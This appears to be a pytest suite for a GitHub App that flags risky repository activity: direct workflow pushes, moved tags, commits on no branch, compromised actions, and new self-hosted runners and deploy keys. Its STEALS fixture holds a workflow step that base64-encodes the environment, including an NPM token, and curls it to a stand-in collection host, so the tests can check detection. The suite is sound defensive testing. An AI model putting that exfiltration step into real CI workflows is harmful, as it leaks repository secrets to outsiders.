"""From a push to the check run and the issue, on the stand-in: what people see of an alert, and that a clean push says nothing."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html import unescape

import pytest
from redis import Redis

from bot.model.core_types import Sha
from bot.model.errors import RetryLaterError
from handlers.jobs.job_table import run_job
from handlers.queue.job_specs import CheckLatestTags, CheckPush, SweepInstallation
from tests.app.acme import RELEASE_WORKFLOW_PATH, TRUSTED_PUBLISHING, adopt_policy
from tests.fakes.github.activity import code
from tests.handlers.jobs.changes.push_scenario import PushScenario, policy, push_scenario

CI = ".github/workflows/ci.yml"
TEST = """\
on: {push: {branches: [main]}}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
"""
STEALS = """\
on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - env: {TOKEN: "${{ secrets.NPM_TOKEN }}"}
        run: |
          env | base64 | curl --data-binary @- https://collect.example.org/
"""


@pytest.fixture
def story(redis: Redis) -> Iterator[PushScenario]:
    with push_scenario(redis) as story:
        yield story


def test_a_workflow_that_sends_a_secret_away_is_told_on_its_line_and_in_an_issue_at_once(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    commit = tool.push({".github/workflows/format.yml": STEALS}, branch="tidy", by="mallory")
    story.work_until_idle()

    run = story.run(tool, commit)
    assert (run.conclusion, run.title) == (
        "neutral",
        "2 alerts: A step newly sends a secret to an unknown host",
    )
    assert [(note["path"], note["start_line"], note["annotation_level"]) for note in run.annotations] == [
        (".github/workflows/format.yml", 8, "warning"),
        (".github/workflows/format.yml", 1, "warning"),
    ]
    (issue,) = story.security
    assert issue.title == ("A step newly sends a secret to an unknown host and 1 more alert in acme/tool")
    assert "curl sends NPM&#95;TOKEN to collect.example.org" in (issue.body or "")
    assert "mallory pushed the branch tidy" in (issue.body or "")


def test_a_later_push_to_the_branch_hides_nothing_and_is_told_of_nothing_twice(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    tool.push({".github/workflows/format.yml": STEALS}, branch="tidy", by="mallory")
    story.work_until_idle()
    empty = tool.push({"README.md": "nothing to see"}, branch="tidy", by="mallory")
    other = tool.push({".github/workflows/format.yml": STEALS + "      - run: true\n"}, branch="tidy", by="mallory")
    story.work_until_idle()
    for commit in (empty, other):
        assert (story.run(tool, commit).title or "").startswith("2 alerts: A step newly sends a secret")
    (issue,) = story.security
    assert issue.comments == []

    mended = tool.push({".github/workflows/format.yml": None}, branch="tidy", by="alice")
    story.work_until_idle()
    assert (story.run(tool, mended).title or "").endswith("main: No rule is in force here")
    tool.push({".github/workflows/format.yml": STEALS}, branch="tidy", by="mallory")
    story.work_until_idle()
    assert len(issue.comments) == 1


def test_the_same_pull_request_done_rightly_says_nothing(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    pull = tool.pull_request({CI: TEST.replace("make test", "make check")}, by="alice")
    commit = tool.merge(pull.number, by="bob")
    story.work_until_idle()

    assert story.run(tool, commit).title == "No rule is in force here"
    assert story.security == []


def test_a_workflow_that_is_pushed_to_the_default_branch_is_told_of_each_repository(story: PushScenario) -> None:
    repositories = [story.repository(name, {CI: TEST}) for name in ("tool", "other")]
    commits = [each.push({CI: TEST.replace("make test", "make check")}, by="mallory") for each in repositories]
    story.work_until_idle()  # a worm pushes the same to many: the commits may even have the same id

    for repository, commit, issue in zip(repositories, commits, story.security, strict=True):
        assert f"mallory changed {CI} by a push (commit {commit[:7]}) without a pull request" in _plain(issue.body)
        assert story.run(repository, commit).conclusion == "neutral"


def test_done_again_it_writes_nothing_and_what_comes_later_joins_the_issue_while_it_is_open(
    story: PushScenario,
) -> None:
    tool = story.repository("tool", {CI: TEST})
    first = tool.push({CI: TEST.replace("make test", "make check")}, by="mallory")
    story.work_until_idle()
    run = story.run(tool, first)
    writes = run.write_count
    story.deliveries_taken = 0
    story.work_until_idle()
    (issue,) = story.security
    assert (run.write_count, issue.comments) == (writes, [])

    tool.push({CI: TEST.replace("make test", "make all")}, by="mallory")
    story.work_until_idle()
    assert [comment.body.split("\n")[1] for comment in issue.comments] == ["More alerts joined:"]

    story.acme.github.repository("acme/security").close(issue.number, by="alice")
    tool.push({CI: TEST.replace("make test", "make none")}, by="mallory")
    story.work_until_idle()
    assert [each.state for each in story.security] == ["closed", "open"]


def test_a_tag_that_moves_to_a_commit_whose_check_is_complete_is_told(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST, "README.md": "one"})
    story.work_until_idle()
    story.acme.check(tool)
    tool.tag("v1.0.0", by="alice")
    story.work_until_idle()
    second = tool.push({"README.md": "two"}, by="alice")
    story.work_until_idle()
    assert story.run(tool, second).status == "completed"
    assert story.security == []
    tool.tag("v1.0.0", second, by="mallory")
    story.work_until_idle()
    (issue,) = story.security
    assert "mallory moved the tag v1.0.0 forward" in _plain(issue.body)


def test_a_tag_that_moves_to_a_commit_on_no_branch_is_told_twice_over(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    tool.tag("v1.0.0")
    story.work_until_idle()
    stray = tool.commit_without_branch({"index.js": "steal()"}, by="mallory")
    tool.tag("v1.0.0", stray, by="mallory")
    story.work_until_idle()

    (issue,) = story.security
    assert "mallory moved the tag v1.0.0 forward" in _plain(issue.body)
    assert f"mallory put the tag v1.0.0 on {stray[:7]}, which is on no branch" in _plain(issue.body)
    assert story.run(tool, stray).conclusion == "neutral"


def test_an_action_that_turns_out_to_have_been_held_is_told_where_it_stands_and_opens_an_issue_where_it_comes(
    story: PushScenario,
) -> None:
    uses = TEST.replace("run: make test", "uses: tj-actions/changed-files@v45")
    stood = story.repository("stood", {CI: uses})
    sweep(story)
    assert (story.run(stood, stood.head).title or "").startswith("1 alert: A workflow uses an action")
    assert story.security == []

    came = story.repository("came", {CI: TEST})
    pull = came.pull_request({CI: uses}, by="alice")
    story.work_until_idle()
    came.merge(pull.number, by="bob")
    came.push({"README.md": "news"}, by="alice")
    story.work_until_idle()
    (issue,) = story.security
    told = "".join(_plain(text) for text in (issue.body, *(comment.body for comment in issue.comments)))
    assert told.count("uses tj-actions/changed-files@v45, whose tags") == 2  # of the branch, and of the default one
    assert story.run(came, came.head).conclusion == "neutral"


def test_what_github_just_merged_is_looked_at_once_it_has_joined_it_with_its_pull_request(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    before = tool.head
    edited = tool.push({CI: TEST.replace("make test", "make check")}, by="alice", author="web-flow", verified=True)
    push = CheckPush(*story.acme.names(tool), "refs/heads/main", Sha(before), Sha(edited), "alice")
    with pytest.raises(RetryLaterError, match="not have joined"):
        run_job(story.acme.context, push)

    run_job(replace(story.acme.context, clock=lambda: datetime.now(UTC) + timedelta(minutes=2)), push)
    story.work_until_idle(without="push")
    assert f"alice changed {CI} by a push" in _plain(story.security[0].body)


@pytest.mark.soak
def test_a_tag_on_a_release_branch_is_as_it_should_be(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    commit = tool.push({"fix.txt": "fixed"}, branch="release/1.x", by="alice")
    tool.push({"fix.txt": "fixed more"}, branch="release/1.x", by="alice")
    tool.tag("v1.0.1", commit, by="alice")
    tool.tag("v1.0.1-annotated", commit, by="alice", message="one more")
    story.work_until_idle()

    assert story.security == []


def test_tags_that_move_or_come_unheard_are_found_by_the_clock(story: PushScenario) -> None:
    tool = story.repository("action", {"action.yml": "runs: {using: composite, steps: []}\n"})
    names = [f"v1.{minor}.0" for minor in range(4)]
    tool.push_tags(*names)
    sweep(story)
    tool.push_tags("v2.0.0", "v2.0.1", "v2.0.2", "v2.0.3")
    look_at_tags(story)
    assert story.security == []

    stray = tool.commit_without_branch({"index.js": "steal()"}, by="mallory")
    tool.push_tags(*names, "v3.0.0", sha=stray, by="mallory")
    before = len(story.acme.github.calls)
    look_at_tags(story)
    assert story.acme.github.calls[before] == "POST /graphql"

    (issue,) = story.security
    told = _plain(issue.body) + "".join(_plain(comment.body) for comment in issue.comments)
    assert all(f"moved the tag {name}" in told for name in names)
    assert f"put the tag v3.0.0 on {stray[:7]}, which is on no branch" in told


def test_a_runner_and_a_key_that_were_added_are_told_by_the_next_look(story: PushScenario) -> None:
    tool = story.repository("tool", {RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING})
    sweep(story)
    tool.runner("laptop")
    tool.deploy_key("sync", read_only=False, by="mallory")
    sweep(story)

    (issue,) = story.security
    assert "the self-hosted runner laptop was added" in _plain(issue.body)
    assert "the deploy key sync with write access was added by mallory" in _plain(issue.body)


@pytest.mark.soak
def test_an_enforced_signal_fails_the_check_and_a_waiver_takes_it_back(redis: Redis) -> None:
    with push_scenario(redis, "enforce") as story:
        tool = story.repository("tool", {CI: TEST})
        commit = tool.push({CI: TEST.replace("make test", "make check")}, by="mallory")
        story.work_until_idle()
        assert story.run(tool, commit).conclusion == "failure"

        waiver = (
            "waivers:\n"
            "  - {rule: direct-workflow-edit, repository: acme/tool, reason: moved in a hurry, owner: '@bob', expires: "
            f"{story.acme.date_in(30)}}}\n"
        )
        adopt_policy(story.acme.github.repository("acme/.github"), policy("enforce") + waiver)
        story.work_until_idle()
        story.acme.check(tool, commit)
        assert story.run(tool, commit).conclusion == "neutral"  # nobody was seen to approve the waiver


def test_what_the_app_may_not_see_is_said_and_is_no_pass(redis: Redis) -> None:
    with push_scenario(redis, without=("pull_requests",)) as story:
        tool = story.repository("tool", {CI: TEST})
        commit = tool.push({CI: TEST.replace("make test", "make check")}, by="alice")
        story.work_until_idle()

        run = story.run(tool, commit)
        assert run.conclusion == "neutral"
        assert "is unknown: the pull requests that the commits came with" in _plain(run.summary)
        assert story.security == []


@pytest.mark.soak
def test_a_tag_that_is_deleted_and_made_elsewhere_has_moved_and_a_branch_may_begin_from_nothing(
    story: PushScenario,
) -> None:
    tool = story.repository("tool", {CI: TEST})
    tool.tag("v1.0.0")
    story.work_until_idle()
    code.update_ref(tool.world, tool.state, "refs/tags/v1.0.0", None, tool.state.owner)
    story.work_until_idle()
    later = tool.push({"README.md": "news"}, by="mallory")
    tool.tag("v1.0.0", later, by="mallory")
    story.work_until_idle()
    assert "mallory moved the tag v1.0.0 forward" in _plain(story.security[0].body)

    alone = code.commit(tool.world, tool.state, {"payload.js": b"x"}, "x", tool.state.owner, None)
    tool.set_branch("gh-pages", alone, by="alice")
    tool.set_branch("patch-1", alone, by="mallory")
    story.work_until_idle()
    said = [_plain(comment.body) for comment in story.security[0].comments]
    assert [("patch-1" in each, "gh-pages" in each) for each in said] == [(True, False)]


def test_a_push_that_changes_no_workflow_takes_one_call(story: PushScenario) -> None:
    tool = story.repository("tool", {CI: TEST})
    tool.push({"README.md": "first"}, by="alice")
    story.work_until_idle()
    before = len(story.acme.github.calls)
    tool.push({"README.md": "news"}, by="alice")
    story.work_until_idle()

    assert story.acme.github.calls[before:] == ["POST /repos/{owner}/{repo}/check-runs"]


def sweep(story: PushScenario) -> None:
    """Look at everything, as the clock asks for."""
    run_job(story.acme.context, SweepInstallation(story.acme.id))
    story.work_until_idle()


def look_at_tags(story: PushScenario) -> None:
    """Look at the latest tags, as the clock asks for every five minutes."""
    run_job(story.acme.context, CheckLatestTags())
    story.work_until_idle()


def _plain(text: str | None) -> str:
    """Text as people read it."""
    return unescape(text or "").replace("\u2060", "").replace("<code>", "").replace("</code>", "")
